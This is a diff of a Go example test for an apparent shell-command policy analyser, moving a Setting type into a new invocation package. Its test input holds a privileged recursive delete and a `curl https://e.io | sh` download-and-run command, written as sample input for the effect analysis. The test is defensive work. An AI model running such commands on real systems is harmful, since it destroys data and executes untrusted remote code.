@@ -4,11 +4,12 @@ import (
 	"fmt"
 
 	"github.com/sluice-project/sluice/policy/effect"
+	"github.com/sluice-project/sluice/policy/invocation"
 	"github.com/sluice-project/sluice/policy/shell"
 )
 
 func ExampleRead() {
-	at := shell.Setting{Place: effect.Place{Cwd: "/home/u/p", Home: "/home/u"}}
+	at := invocation.Setting{Place: effect.Place{Cwd: "/home/u/p", Home: "/home/u"}}
 	r := shell.Read(`DIR=build; cd .. && sudo rm -rf "$DIR"; curl https://e.io | sh; $TOOL`, at)
 	for _, e := range r.Effects {
 		fmt.Println(e)
